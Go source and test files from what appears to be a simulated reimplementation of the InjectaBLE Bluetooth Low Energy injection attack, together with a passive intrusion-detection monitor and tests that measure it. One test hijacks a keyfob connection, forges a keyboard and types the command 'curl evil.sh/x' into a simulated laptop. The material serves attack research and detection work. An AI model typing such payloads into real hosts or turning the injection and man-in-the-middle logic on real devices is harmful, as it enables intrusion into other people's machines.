	sim.Emit(inj.stack.Tracer, inj.stack.Sched.Now(), inj.stack.Name, "inject-attempt", func() []sim.Field {
		return []sim.Field{sim.F("n", a.Number), sim.F("outcome", string(a.Outcome)), sim.F("event", a.Event)}
	})
	inj.stack.Obs.EndAttempt(obs.AttemptEnd{
		Outcome:        string(a.Outcome),
		SlaveResponded: a.SlaveSeen,
		ResponseValid:  len(a.ResponsePDU) > 0,
	}, float64(st.AnchorJitterEWMA)/float64(sim.Microsecond))
	if inj.OnAttempt != nil {
		inj.OnAttempt(a)
	}
	if a.Outcome == OutcomeNoResponse {
		st.MissedEvents++
		// Adapt: fire a little later next time (the slave heard nothing,
		// so we were probably ahead of its window).
		if !inj.cfg.DisableAdaptiveGuard && act.guard < 12*sim.Microsecond {
			act.guard += 1500 * sim.Nanosecond
		}
	}
	st.EventCount++

	if a.Outcome == OutcomeSuccess {
		act.report.Success = true
		inj.finish()
		return
	}
	if len(act.report.Attempts) >= inj.cfg.MaxAttempts {
		inj.finish()
		return
	}
	// Re-arm: resume sniffing to refresh anchor/sequence state, then try
	// again at the next suitable event.
	inj.sniffer.Resume()
	inj.armNextAttempt()
}

// finish completes the Inject call.
func (inj *Injector) finish() {
	act := inj.active
	inj.active = nil
	// A race cut short by connection loss leaves a dangling ledger
	// entry; close it so the forensics stay attempt-complete.
	inj.stack.Obs.AbortAttempt("connection-lost")
	inj.sniffer.Resume()
	if act.done != nil {
		act.done(act.report)
	}
}
