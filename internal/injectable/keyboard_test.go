package injectable

import (
	"strings"
	"testing"

	"injectable/internal/devices"
	"injectable/internal/host"
	"injectable/internal/phy"
	"injectable/internal/sim"
)

// TestKeystrokeInjectionEndToEnd realises the paper's §IX future-work
// attack: a computer is connected to a keyfob; the attacker expels the
// keyfob, presents a keyboard in its place via Service Changed, and types
// into the computer.
func TestKeystrokeInjectionEndToEnd(t *testing.T) {
	w := host.NewWorld(host.WorldConfig{Seed: 71})
	fob := devices.NewKeyfob(w.NewDevice(host.DeviceConfig{
		Name: "fob", Position: phy.Position{X: 0},
	}))
	computer := devices.NewComputer(w.NewDevice(host.DeviceConfig{
		Name: "laptop", Position: phy.Position{X: 2},
	}))
	atk := w.NewDevice(host.DeviceConfig{
		Name: "attacker", Position: phy.Position{X: 1, Y: 1.732},
		ClockPPM: 20, ClockJitter: 500 * sim.Nanosecond,
	})
	a := NewAttacker(atk.Stack, InjectorConfig{})

	a.Sniffer.Start()
	fob.Peripheral.StartAdvertising()
	computer.Connect(fob.Peripheral.Device.Address())
	w.RunFor(3 * sim.Second)
	if !a.Sniffer.Following() {
		t.Fatal("not following")
	}
	if computer.HIDAttached {
		t.Fatal("computer attached to a keyboard before the attack?")
	}

	var ki *KeystrokeInjection
	var kerr error
	err := a.InjectKeyboard("Logitech K380", func(k *KeystrokeInjection, err error) { ki, kerr = k, err })
	if err != nil {
		t.Fatal(err)
	}
	w.RunFor(40 * sim.Second)
	if kerr != nil {
		t.Fatal(kerr)
	}
	if ki == nil {
		t.Fatal("keyboard injection did not settle")
	}
	// The Service Changed indication must have triggered rediscovery and
	// the host's automatic HID attach.
	if computer.Rediscoveries == 0 {
		t.Fatal("host never rediscovered after Service Changed")
	}
	w.RunFor(10 * sim.Second)
	if !ki.Attached() || !computer.HIDAttached {
		t.Fatalf("host did not attach to the forged keyboard (rediscoveries=%d)", computer.Rediscoveries)
	}

	// Type a command. Each keystroke is a notification pair riding the
	// hijacked connection's events.
	const payload = "curl evil.sh/x\n"
	if err := ki.Type(payload); err != nil {
		t.Fatal(err)
	}
	w.RunFor(20 * sim.Second)
	typed := computer.Typed.String()
	if !strings.Contains(typed, "curl evil.sh/x") {
		t.Fatalf("computer typed %q, want the injected command", typed)
	}
}

// TestTypeBeforeAttachFails guards the usage contract.
func TestTypeBeforeAttachFails(t *testing.T) {
	kbd := devices.NewKeyboardProfile("kbd")
	ki := &KeystrokeInjection{Keyboard: kbd}
	if err := ki.Type("x"); err == nil {
		t.Fatal("Type accepted without a subscribed host")
	}
}
