// Package ids implements the defensive monitor sketched in the paper's
// countermeasure discussion (§VIII): a passive wideband observer of the
// 2.4 GHz band that learns each connection's anchor-point grid and flags
// the physical signatures InjectaBLE cannot avoid leaving:
//
//   - double frames: a second BLE transmission overlapping an anchor frame
//     on the same data channel ("the presence of double frames: the
//     legitimate Master frame and the attacker one");
//   - anchor deviations: anchor points arriving a window-widening early,
//     which is precisely where injected frames must sit to win the race;
//   - schedule splits: after a forged CONNECTION_UPDATE, two interleaved
//     anchor trains share one access address (the MITM signature);
//   - jamming bursts: the BTLEJack-style baseline is loud by comparison.
package ids

import (
	"fmt"

	"injectable/internal/ble"
	"injectable/internal/ble/pdu"
	"injectable/internal/medium"
	"injectable/internal/sim"
)

// AlertKind classifies a detection.
type AlertKind string

// Alert kinds.
const (
	// AlertDoubleFrame: two overlapping transmissions in one receive
	// window — an injection race caught red-handed.
	AlertDoubleFrame AlertKind = "double-frame"
	// AlertAnchorDeviation: an anchor point materially off the learned
	// grid (injected frames anchor one window-widening early).
	AlertAnchorDeviation AlertKind = "anchor-deviation"
	// AlertScheduleSplit: two interleaved anchor trains on one access
	// address — a man-in-the-middle after a forged connection update.
	AlertScheduleSplit AlertKind = "schedule-split"
	// AlertRogueUpdate: an LL_CONNECTION_UPDATE_IND in a frame that also
	// deviated from the anchor grid.
	AlertRogueUpdate AlertKind = "rogue-update"
	// AlertJamming: a non-BLE interference burst on a data channel.
	AlertJamming AlertKind = "jamming"
)

// Alert is one detection event.
type Alert struct {
	At      sim.Time
	Kind    AlertKind
	AA      ble.AccessAddress
	Channel uint8
	Detail  string
}

// String implements fmt.Stringer.
func (a Alert) String() string {
	return fmt.Sprintf("%v [%s] aa=%v ch=%d %s", a.At, a.Kind, a.AA, a.Channel, a.Detail)
}

// Config tunes the monitor.
type Config struct {
	// AnchorTolerance is the accepted deviation from the learned grid
	// before an anchor is flagged (default 12 µs — beyond worst-case
	// per-interval clock drift, below the smallest window widening).
	AnchorTolerance sim.Duration
	// SplitEvents is how many consecutive twin-anchor events confirm a
	// schedule split (default 3).
	SplitEvents int
	// LearnAnchors is how many anchor gaps are used to learn the interval
	// (default 4).
	LearnAnchors int
}

func (c *Config) applyDefaults() {
	if c.AnchorTolerance == 0 {
		c.AnchorTolerance = 12 * sim.Microsecond
	}
	if c.SplitEvents == 0 {
		c.SplitEvents = 3
	}
	if c.LearnAnchors == 0 {
		c.LearnAnchors = 4
	}
}

// connTrack is the monitor's model of one connection.
type connTrack struct {
	aa ble.AccessAddress

	// learning
	anchorTimes []sim.Time
	interval    sim.Duration

	// steady state
	lastAnchor   sim.Time
	lastFrameEnd sim.Time
	lastChannel  uint8

	// split detection: offset of a recurring second anchor train
	splitOffset sim.Duration
	splitRun    int
	splitFired  bool
}

// Monitor is the passive IDS. Attach it to the medium with AddObserver.
type Monitor struct {
	cfg    Config
	conns  map[uint32]*connTrack
	alerts []Alert

	// OnAlert fires for every alert raised.
	OnAlert func(a Alert)
}

// New builds a monitor.
func New(cfg Config) *Monitor {
	cfg.applyDefaults()
	return &Monitor{cfg: cfg, conns: make(map[uint32]*connTrack)}
}

var _ medium.Observer = (*Monitor)(nil)

// Alerts returns all alerts raised so far.
func (m *Monitor) Alerts() []Alert { return append([]Alert(nil), m.alerts...) }

// AlertsOf filters alerts by kind.
func (m *Monitor) AlertsOf(kind AlertKind) []Alert {
	var out []Alert
	for _, a := range m.alerts {
		if a.Kind == kind {
			out = append(out, a)
		}
	}
	return out
}

// raise records and publishes one alert.
func (m *Monitor) raise(at sim.Time, kind AlertKind, aa ble.AccessAddress, ch uint8, detail string) {
	a := Alert{At: at, Kind: kind, AA: aa, Channel: ch, Detail: detail}
	m.alerts = append(m.alerts, a)
	if m.OnAlert != nil {
		m.OnAlert(a)
	}
}

// ObserveTx implements medium.Observer — the SDR front end.
func (m *Monitor) ObserveTx(o medium.TxObservation) {
	ch := uint8(o.Channel)
	if o.Channel.IsAdvertising() {
		return
	}
	if o.Noise {
		m.raise(o.StartAt, AlertJamming, 0, ch, fmt.Sprintf("burst of %v", o.EndAt.Sub(o.StartAt)))
		return
	}
	aa := ble.AccessAddress(o.Frame.AccessAddress)
	t := m.conns[o.Frame.AccessAddress]
	if t == nil {
		t = &connTrack{aa: aa}
		m.conns[o.Frame.AccessAddress] = t
	}
	m.observeFrame(t, o)
}

// observeFrame classifies one data-channel frame against the track.
func (m *Monitor) observeFrame(t *connTrack, o medium.TxObservation) {
	ch := uint8(o.Channel)

	// Double frame: starts while another frame of this connection is
	// still on the air, on the same channel.
	if o.StartAt < t.lastFrameEnd && ch == t.lastChannel {
		m.raise(o.StartAt, AlertDoubleFrame, t.aa, ch,
			fmt.Sprintf("overlaps frame ending %v", t.lastFrameEnd))
		if o.EndAt > t.lastFrameEnd {
			t.lastFrameEnd = o.EndAt
		}
		return
	}

	gap := o.StartAt.Sub(t.lastAnchor)
	isResponse := t.lastFrameEnd != 0 &&
		o.StartAt.Sub(t.lastFrameEnd) < 400*sim.Microsecond && ch == t.lastChannel

	if !isResponse {
		m.observeAnchor(t, o, gap)
	}
	t.lastFrameEnd = o.EndAt
	t.lastChannel = ch
}

// observeAnchor learns the grid and flags deviations.
func (m *Monitor) observeAnchor(t *connTrack, o medium.TxObservation, gap sim.Duration) {
	ch := uint8(o.Channel)

	if t.interval == 0 {
		// Learning phase: collect anchors, then derive the interval as the
		// 1.25 ms-quantised minimum gap.
		t.anchorTimes = append(t.anchorTimes, o.StartAt)
		t.lastAnchor = o.StartAt
		if len(t.anchorTimes) > m.cfg.LearnAnchors {
			minGap := sim.Duration(1 << 62)
			for i := 1; i < len(t.anchorTimes); i++ {
				if g := t.anchorTimes[i].Sub(t.anchorTimes[i-1]); g < minGap {
					minGap = g
				}
			}
			units := (int64(minGap) + int64(ble.ConnUnit)/2) / int64(ble.ConnUnit)
			if units >= 6 {
				t.interval = sim.Duration(units) * ble.ConnUnit
			} else {
				t.anchorTimes = t.anchorTimes[1:]
			}
		}
		return
	}

	// Residual against the learned grid from the last on-grid anchor.
	k := (int64(gap) + int64(t.interval)/2) / int64(t.interval)
	var residual sim.Duration
	if k > 0 {
		residual = gap - sim.Duration(k)*t.interval
	} else {
		residual = gap
	}

	if k > 0 && residual >= -m.cfg.AnchorTolerance && residual <= m.cfg.AnchorTolerance {
		// On-grid anchor: advance the grid reference. splitRun is NOT
		// reset here — the primary and secondary trains interleave, so
		// on-grid anchors always separate split candidates.
		t.lastAnchor = o.StartAt
		return
	}

	if k > 0 && residual > -t.interval/4 && residual < t.interval/4 {
		// Near the grid but outside tolerance — the injection signature
		// (forged frames sit one window-widening early). The grid still
		// advances: the slave re-anchored on this frame.
		m.raise(o.StartAt, AlertAnchorDeviation, t.aa, ch,
			fmt.Sprintf("residual %v over %d interval(s)", residual, k))
		if op, ok := controlOpcode(o.Frame); ok && op == pdu.OpConnectionUpdateInd {
			m.raise(o.StartAt, AlertRogueUpdate, t.aa, ch, "connection update off the anchor grid")
		}
		t.lastAnchor = o.StartAt
		return
	}

	// Mid-grid transmission: candidate second anchor train (MITM). The
	// grid reference is NOT advanced, so the offset of the second train
	// stays measurable against the primary one.
	offset := gap % t.interval
	m.trackSplit(t, o, offset)
}

// trackSplit watches for a persistent second anchor train.
func (m *Monitor) trackSplit(t *connTrack, o medium.TxObservation, offset sim.Duration) {
	const tol = 500 * sim.Microsecond
	if t.splitRun > 0 && offset > t.splitOffset-tol && offset < t.splitOffset+tol {
		t.splitRun++
	} else {
		t.splitOffset = offset
		t.splitRun = 1
	}
	if t.splitRun >= m.cfg.SplitEvents && !t.splitFired {
		t.splitFired = true
		m.raise(o.StartAt, AlertScheduleSplit, t.aa, uint8(o.Channel),
			fmt.Sprintf("second anchor train offset %v", t.splitOffset))
	}
}

// controlOpcode extracts the LL control opcode of a frame, if any.
func controlOpcode(f medium.Frame) (pdu.Opcode, bool) {
	p, err := pdu.UnmarshalDataPDU(f.PDU)
	if err != nil || !p.IsControl() || len(p.Payload) == 0 {
		return 0, false
	}
	return pdu.Opcode(p.Payload[0]), true
}
