package ids

import (
	"testing"

	"injectable/internal/devices"
	"injectable/internal/host"
	"injectable/internal/injectable"
	"injectable/internal/link"
	"injectable/internal/phy"
	"injectable/internal/sim"
)

// monitoredScene: bulb + phone + attacker + IDS observing the medium.
type monitoredScene struct {
	w        *host.World
	bulb     *devices.Lightbulb
	phone    *devices.Smartphone
	attacker *injectable.Attacker
	monitor  *Monitor
}

func newScene(t *testing.T, seed uint64) *monitoredScene {
	t.Helper()
	w := host.NewWorld(host.WorldConfig{Seed: seed})
	s := &monitoredScene{w: w}
	s.bulb = devices.NewLightbulb(w.NewDevice(host.DeviceConfig{Name: "bulb", Position: phy.Position{X: 0}}))
	s.phone = devices.NewSmartphone(w.NewDevice(host.DeviceConfig{
		Name: "phone", Position: phy.Position{X: 2},
	}), devices.SmartphoneConfig{ConnParams: link.ConnParams{Interval: 36}})
	atk := w.NewDevice(host.DeviceConfig{
		Name: "attacker", Position: phy.Position{X: 1, Y: 1.732},
		ClockPPM: 20, ClockJitter: 500 * sim.Nanosecond,
	})
	s.attacker = injectable.NewAttacker(atk.Stack, injectable.InjectorConfig{})
	s.monitor = New(Config{})
	w.Medium.AddObserver(s.monitor)
	return s
}

func (s *monitoredScene) connect(t *testing.T) {
	t.Helper()
	s.attacker.Sniffer.Start()
	s.bulb.Peripheral.StartAdvertising()
	s.phone.Connect(s.bulb.Peripheral.Device.Address())
	s.w.RunFor(3 * sim.Second)
	if !s.attacker.Sniffer.Following() {
		t.Fatal("attacker not following")
	}
}

func TestNoFalseAlertsOnCleanTraffic(t *testing.T) {
	s := newScene(t, 1)
	s.bulb.Peripheral.StartAdvertising()
	s.phone.Connect(s.bulb.Peripheral.Device.Address())
	s.w.RunFor(10 * sim.Second)
	for _, kind := range []AlertKind{AlertDoubleFrame, AlertScheduleSplit, AlertJamming, AlertRogueUpdate} {
		if n := len(s.monitor.AlertsOf(kind)); n != 0 {
			t.Errorf("%d false %v alerts on clean traffic", n, kind)
		}
	}
	// Anchor-deviation false positives must be rare (clock jitter only).
	if n := len(s.monitor.AlertsOf(AlertAnchorDeviation)); n > 2 {
		t.Errorf("%d anchor-deviation false positives", n)
	}
}

func TestDetectsInjectionAttempts(t *testing.T) {
	s := newScene(t, 2)
	s.connect(t)
	var rep *injectable.Report
	err := s.attacker.InjectWrite(s.bulb.ControlHandle(), devices.PowerCommand(true),
		func(r injectable.Report) { rep = &r })
	if err != nil {
		t.Fatal(err)
	}
	s.w.RunFor(30 * sim.Second)
	if rep == nil || !rep.Success {
		t.Fatal("injection failed")
	}
	// Every injection attempt that collided shows as a double frame, and
	// even clean wins anchor early: the IDS must have seen something.
	double := len(s.monitor.AlertsOf(AlertDoubleFrame))
	deviate := len(s.monitor.AlertsOf(AlertAnchorDeviation))
	if double+deviate == 0 {
		t.Fatalf("IDS blind to the injection (attempts=%d)", rep.AttemptCount())
	}
}

func TestDetectsMITMScheduleSplit(t *testing.T) {
	s := newScene(t, 3)
	s.connect(t)
	var session *injectable.MITM
	err := s.attacker.ManInTheMiddle(injectable.UpdateParams{}, injectable.MITMConfig{},
		func(m *injectable.MITM, err error) {
			if err != nil {
				t.Error(err)
				return
			}
			session = m
		})
	if err != nil {
		t.Fatal(err)
	}
	s.w.RunFor(60 * sim.Second)
	if session == nil || session.Closed() {
		t.Fatal("MITM not established")
	}
	if len(s.monitor.AlertsOf(AlertScheduleSplit)) == 0 {
		t.Fatal("IDS missed the MITM schedule split")
	}
	if len(s.monitor.AlertsOf(AlertRogueUpdate)) == 0 {
		t.Log("note: rogue update not flagged (injection may have won cleanly)")
	}
}

func TestDetectsJamming(t *testing.T) {
	s := newScene(t, 4)
	s.bulb.Peripheral.StartAdvertising()
	s.phone.Connect(s.bulb.Peripheral.Device.Address())
	s.w.RunFor(2 * sim.Second)
	// A BTLEJack-style jammer blasts a data channel.
	jammer := s.w.NewDevice(host.DeviceConfig{Name: "jammer", Position: phy.Position{X: 1}})
	jammer.Stack.Radio.SetChannel(phy.Channel(12))
	jammer.Stack.Radio.TransmitNoise(500 * sim.Microsecond)
	s.w.RunFor(sim.Second)
	if len(s.monitor.AlertsOf(AlertJamming)) == 0 {
		t.Fatal("jamming not detected")
	}
}

func TestStealthComparisonInjectionQuieterThanJamming(t *testing.T) {
	// The paper argues InjectaBLE is stealthier than BTLEJack: a naive
	// RF monitor (jamming detector only) sees nothing, while the
	// double-frame detector is required.
	s := newScene(t, 5)
	s.connect(t)
	var rep *injectable.Report
	if err := s.attacker.InjectWrite(s.bulb.ControlHandle(), devices.PowerCommand(true),
		func(r injectable.Report) { rep = &r }); err != nil {
		t.Fatal(err)
	}
	s.w.RunFor(30 * sim.Second)
	if rep == nil || !rep.Success {
		t.Fatal("injection failed")
	}
	if n := len(s.monitor.AlertsOf(AlertJamming)); n != 0 {
		t.Fatalf("injection raised %d jamming alerts — should be silent to RF-burst detectors", n)
	}
}

func TestAlertStringAndAccessors(t *testing.T) {
	m := New(Config{})
	m.raise(sim.Time(5*sim.Microsecond), AlertDoubleFrame, 0x12345678, 7, "test")
	if len(m.Alerts()) != 1 {
		t.Fatal("Alerts() broken")
	}
	if m.Alerts()[0].String() == "" {
		t.Fatal("empty alert string")
	}
	if len(m.AlertsOf(AlertJamming)) != 0 {
		t.Fatal("AlertsOf filter broken")
	}
}

func TestOnAlertCallback(t *testing.T) {
	m := New(Config{})
	fired := 0
	m.OnAlert = func(Alert) { fired++ }
	m.raise(0, AlertJamming, 0, 1, "x")
	if fired != 1 {
		t.Fatal("OnAlert not fired")
	}
}

func TestDetectsKeystrokeInjectionChain(t *testing.T) {
	// The §IX keyboard chain rides on a slave hijack: the monitor must see
	// the same injection signatures.
	out, err := experimentsRunKeystrokes(6)
	if err != nil {
		t.Fatal(err)
	}
	if !out.success {
		t.Skip("keystroke chain failed under this seed")
	}
	if out.doubleFrames+out.anchorDevs == 0 {
		t.Fatal("IDS blind to the keyboard hijack")
	}
}

// experimentsRunKeystrokes reimplements the scenario locally to avoid an
// import cycle with the experiments package.
func experimentsRunKeystrokes(seed uint64) (struct {
	success                  bool
	doubleFrames, anchorDevs int
}, error) {
	var out struct {
		success                  bool
		doubleFrames, anchorDevs int
	}
	w := host.NewWorld(host.WorldConfig{Seed: seed})
	monitor := New(Config{})
	w.Medium.AddObserver(monitor)
	fob := devices.NewKeyfob(w.NewDevice(host.DeviceConfig{Name: "fob", Position: phy.Position{X: 0}}))
	computer := devices.NewComputer(w.NewDevice(host.DeviceConfig{Name: "laptop", Position: phy.Position{X: 2}}))
	atk := w.NewDevice(host.DeviceConfig{Name: "attacker", Position: phy.Position{X: 1, Y: 1.732},
		ClockPPM: 20, ClockJitter: 500 * sim.Nanosecond})
	a := injectable.NewAttacker(atk.Stack, injectable.InjectorConfig{})
	a.Sniffer.Start()
	fob.Peripheral.StartAdvertising()
	computer.Connect(fob.Peripheral.Device.Address())
	w.RunFor(3 * sim.Second)
	var ki *injectable.KeystrokeInjection
	if err := a.InjectKeyboard("kbd", func(k *injectable.KeystrokeInjection, err error) { ki = k }); err != nil {
		return out, err
	}
	w.RunFor(50 * sim.Second)
	if ki != nil && ki.Attached() {
		_ = ki.Type("id\n")
		w.RunFor(5 * sim.Second)
		out.success = computer.Typed.Len() > 0
	}
	out.doubleFrames = len(monitor.AlertsOf(AlertDoubleFrame))
	out.anchorDevs = len(monitor.AlertsOf(AlertAnchorDeviation))
	return out, nil
}
