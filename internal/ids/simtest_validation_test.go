// IDS validation against randomized simtest worlds, in package ids_test
// because internal/simtest imports internal/ids (alert-kind accounting) and
// the reverse import would cycle.
//
// EXPERIMENTS.md (§VIII IDS quality) claims 100 % detection with 0 % false
// positives; these tests hold the monitor to exactly those bounds over
// generated benign and attacked traffic rather than the experiments
// package's two fixed topologies.
package ids_test

import (
	"testing"

	"injectable/internal/simtest"
)

func validationRuns(t *testing.T) int {
	t.Helper()
	if testing.Short() {
		return 8
	}
	return 25
}

// TestZeroFalsePositivesOnBenignWorlds: randomized benign worlds (varying
// intervals, clock drift, distances, bystander advertisers — but no
// attacker) must never raise an injection-class alert.
func TestZeroFalsePositivesOnBenignWorlds(t *testing.T) {
	runs, connected := validationRuns(t), 0
	for seed := uint64(7000); seed < 7000+uint64(runs); seed++ {
		p := simtest.Generate(seed)
		p.Scenario = "none"
		p.IDS = true
		p.Jammer = false // jamming legitimately alerts; FPR is about injection-class alerts
		r, err := simtest.RunWorld(seed, p)
		if err != nil {
			t.Fatalf("seed %d: %v", seed, err)
		}
		if !r.Connected {
			continue
		}
		connected++
		if n := r.InjectionAlerts(); n > 0 {
			t.Errorf("seed %d: %d injection-class alert(s) on benign traffic: %v (%v)",
				seed, n, r.IDSAlerts, r.Params)
		}
	}
	if connected < runs/2 {
		t.Fatalf("only %d/%d benign worlds connected — FPR measurement is vacuous", connected, runs)
	}
	t.Logf("FPR 0%% over %d connected benign worlds", connected)
}

// TestFullDetectionOnInjectedWorlds: every randomized world in which the
// attacker's injection actually succeeded must raise at least one
// injection-class alert.
func TestFullDetectionOnInjectedWorlds(t *testing.T) {
	runs, successes := validationRuns(t), 0
	for seed := uint64(8000); seed < 8000+uint64(runs); seed++ {
		p := simtest.Generate(seed)
		p.Scenario = "inject"
		p.IDS = true
		r, err := simtest.RunWorld(seed, p)
		if err != nil {
			t.Fatalf("seed %d: %v", seed, err)
		}
		if !r.AttackSuccess {
			continue // a missed attack is the attacker's problem, not the IDS's
		}
		successes++
		if r.InjectionAlerts() == 0 {
			t.Errorf("seed %d: successful injection went undetected (alerts %v, params %v)",
				seed, r.IDSAlerts, r.Params)
		}
	}
	if successes < runs/3 {
		t.Fatalf("only %d/%d attacks succeeded — TPR measurement is vacuous", successes, runs)
	}
	t.Logf("TPR 100%% over %d successful injections", successes)
}
