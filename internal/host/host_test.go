package host

import (
	"bytes"
	"testing"

	"injectable/internal/att"
	"injectable/internal/gatt"
	"injectable/internal/link"
	"injectable/internal/phy"
	"injectable/internal/sim"
	"injectable/internal/smp"
)

// scene builds a world with a peripheral (bulb-like) and a central 2 m
// apart and returns them connected-ready.
func scene(t *testing.T, seed uint64) (*World, *Peripheral, *Central, *gatt.Characteristic) {
	t.Helper()
	w := NewWorld(WorldConfig{Seed: seed})
	perDev := w.NewDevice(DeviceConfig{Name: "bulb", Position: phy.Position{X: 0}})
	cenDev := w.NewDevice(DeviceConfig{Name: "phone", Position: phy.Position{X: 2}})

	per := NewPeripheral(perDev, PeripheralConfig{DeviceName: "SmartBulb"})
	power := &gatt.Characteristic{
		UUID:       att.UUID16(0xFF01),
		Properties: gatt.PropRead | gatt.PropWrite,
		Value:      []byte{0x00},
	}
	per.GATT.AddService(&gatt.Service{
		UUID:            att.UUID16(0xFF00),
		Characteristics: []*gatt.Characteristic{power},
	})
	cen := NewCentral(cenDev, CentralConfig{})
	return w, per, cen, power
}

func connect(t *testing.T, w *World, per *Peripheral, cen *Central) {
	t.Helper()
	per.StartAdvertising()
	cen.Connect(per.Device.Address())
	w.RunFor(2 * sim.Second)
	if !per.Connected() || !cen.Connected() {
		t.Fatal("not connected after 2 s")
	}
}

func TestPeripheralCentralConnect(t *testing.T) {
	w, per, cen, _ := scene(t, 1)
	var perGot, cenGot bool
	per.OnConnect = func(c *link.Conn) { perGot = true }
	cen.OnConnect = func(c *link.Conn) { cenGot = true }
	connect(t, w, per, cen)
	if !perGot || !cenGot {
		t.Fatalf("OnConnect: peripheral=%t central=%t", perGot, cenGot)
	}
}

func TestGATTEndToEnd(t *testing.T) {
	w, per, cen, power := scene(t, 2)
	connect(t, w, per, cen)

	// Full discovery then write-and-read through the radio.
	var powerHandle uint16
	cen.GATT().DiscoverServices(func(svcs []*gatt.RemoteService, err error) {
		if err != nil {
			t.Fatal(err)
		}
		for _, s := range svcs {
			s := s
			cen.GATT().DiscoverCharacteristics(s, func(cs []*gatt.RemoteCharacteristic, err error) {
				for _, ch := range cs {
					if ch.UUID == att.UUID16(0xFF01) {
						powerHandle = ch.ValueHandle
					}
				}
			})
		}
	})
	w.RunFor(3 * sim.Second)
	if powerHandle == 0 {
		t.Fatal("power characteristic not discovered")
	}
	if powerHandle != power.ValueHandle {
		t.Fatalf("discovered handle %d, server has %d", powerHandle, power.ValueHandle)
	}

	turnedOn := false
	power.OnWrite = func(v []byte) { turnedOn = v[0] == 1 }
	cen.GATT().Write(powerHandle, []byte{1}, func(err error) {
		if err != nil {
			t.Fatal(err)
		}
	})
	w.RunFor(sim.Second)
	if !turnedOn {
		t.Fatal("write did not reach the peripheral")
	}

	var read []byte
	cen.GATT().Read(powerHandle, func(v []byte, err error) { read = v })
	w.RunFor(sim.Second)
	if !bytes.Equal(read, []byte{1}) {
		t.Fatalf("read = % x", read)
	}
}

func TestDeviceNameReadable(t *testing.T) {
	w, per, cen, _ := scene(t, 3)
	connect(t, w, per, cen)
	var name []byte
	cen.GATT().Read(per.DeviceNameChar().ValueHandle, func(v []byte, err error) {
		if err != nil {
			t.Fatal(err)
		}
		name = v
	})
	w.RunFor(sim.Second)
	if string(name) != "SmartBulb" {
		t.Fatalf("device name = %q", name)
	}
}

func TestPairingEndToEndOverRadio(t *testing.T) {
	w, per, cen, _ := scene(t, 4)
	connect(t, w, per, cen)

	var bond *smp.Bond
	var perr error
	cen.OnPaired = func(b smp.Bond, err error) {
		if err == nil {
			bond = &b
		}
		perr = err
	}
	if err := cen.Pair(); err != nil {
		t.Fatal(err)
	}
	w.RunFor(5 * sim.Second)
	if perr != nil {
		t.Fatal(perr)
	}
	if bond == nil {
		t.Fatal("no bond produced")
	}
	if !cen.Conn().Encrypted() || !per.Conn().Encrypted() {
		t.Fatal("link not encrypted after pairing")
	}
	perBonds := per.Bonds()
	if len(perBonds) != 1 || perBonds[0].LTK != bond.LTK {
		t.Fatal("peripheral bond mismatch")
	}
	if cen.Bond() == nil || cen.Bond().LTK != bond.LTK {
		t.Fatal("central Bond() mismatch")
	}

	// GATT still works over the now-encrypted link.
	var name []byte
	cen.GATT().Read(per.DeviceNameChar().ValueHandle, func(v []byte, err error) { name = v })
	w.RunFor(sim.Second)
	if string(name) != "SmartBulb" {
		t.Fatalf("encrypted read = %q", name)
	}
}

func TestReconnectWithBond(t *testing.T) {
	w, per, cen, _ := scene(t, 5)
	connect(t, w, per, cen)
	if err := cen.Pair(); err != nil {
		t.Fatal(err)
	}
	w.RunFor(5 * sim.Second)
	bond := cen.Bond()
	if bond == nil {
		t.Fatal("pairing failed")
	}

	// Disconnect and reconnect using the stored LTK.
	per.cfg.ReAdvertise = true
	cen.Conn().Terminate()
	w.RunFor(sim.Second)
	if per.Connected() || cen.Connected() {
		t.Fatal("still connected after terminate")
	}
	cen.Connect(per.Device.Address())
	w.RunFor(3 * sim.Second)
	if !cen.Connected() {
		t.Fatal("reconnect failed")
	}
	if err := cen.EncryptWithBond(*bond); err != nil {
		t.Fatal(err)
	}
	w.RunFor(2 * sim.Second)
	if !cen.Conn().Encrypted() || !per.Conn().Encrypted() {
		t.Fatal("bonded re-encryption failed")
	}
}

func TestNotificationsOverRadio(t *testing.T) {
	w := NewWorld(WorldConfig{Seed: 6})
	perDev := w.NewDevice(DeviceConfig{Name: "watch", Position: phy.Position{X: 0}})
	cenDev := w.NewDevice(DeviceConfig{Name: "phone", Position: phy.Position{X: 2}})
	per := NewPeripheral(perDev, PeripheralConfig{DeviceName: "Watch"})
	sms := &gatt.Characteristic{
		UUID:       att.UUID16(0xFF21),
		Properties: gatt.PropNotify | gatt.PropRead,
	}
	per.GATT.AddService(&gatt.Service{UUID: att.UUID16(0xFF20), Characteristics: []*gatt.Characteristic{sms}})
	cen := NewCentral(cenDev, CentralConfig{})
	connect(t, w, per, cen)

	var got []byte
	cen.GATT().OnNotification = func(h uint16, v []byte) {
		if h == sms.ValueHandle {
			got = append([]byte(nil), v...)
		}
	}
	rc := &gatt.RemoteCharacteristic{ValueHandle: sms.ValueHandle, CCCDHandle: sms.CCCDHandle}
	cen.GATT().Subscribe(rc, func(err error) {
		if err != nil {
			t.Fatal(err)
		}
	})
	w.RunFor(sim.Second)
	per.GATT.Notify(sms, []byte("SMS:hello"))
	w.RunFor(sim.Second)
	if string(got) != "SMS:hello" {
		t.Fatalf("notification = %q", got)
	}
}

func TestDisconnectCallbacksAndReAdvertise(t *testing.T) {
	w, per, cen, _ := scene(t, 7)
	per.cfg.ReAdvertise = true
	connect(t, w, per, cen)
	perDisc, cenDisc := false, false
	per.OnDisconnect = func(r link.DisconnectReason) { perDisc = true }
	cen.OnDisconnect = func(r link.DisconnectReason) { cenDisc = true }
	cen.Conn().Terminate()
	w.RunFor(sim.Second)
	if per.Connected() {
		t.Fatal("peripheral still connected")
	}
	if !perDisc || !cenDisc {
		t.Fatalf("OnDisconnect: peripheral=%t central=%t", perDisc, cenDisc)
	}
	// Re-advertising: a new central connection must succeed.
	cen.Connect(per.Device.Address())
	w.RunFor(2 * sim.Second)
	if !cen.Connected() {
		t.Fatal("reconnect after re-advertise failed")
	}
}

func TestWorldDeterminism(t *testing.T) {
	run := func() sim.Time {
		w, per, cen, _ := scene(t, 42)
		connect(t, w, per, cen)
		return w.Now()
	}
	if run() != run() {
		t.Fatal("same seed produced different timelines")
	}
}

func TestDeviceAddressAndPosition(t *testing.T) {
	w := NewWorld(WorldConfig{Seed: 8})
	d := w.NewDevice(DeviceConfig{Name: "d", Position: phy.Position{X: 3, Y: 4}})
	if d.Address() == ([6]byte{}) {
		t.Fatal("no address assigned")
	}
	if d.Position().X != 3 {
		t.Fatal("position wrong")
	}
	d.SetPosition(phy.Position{X: 9})
	if d.Position().X != 9 {
		t.Fatal("SetPosition failed")
	}
}

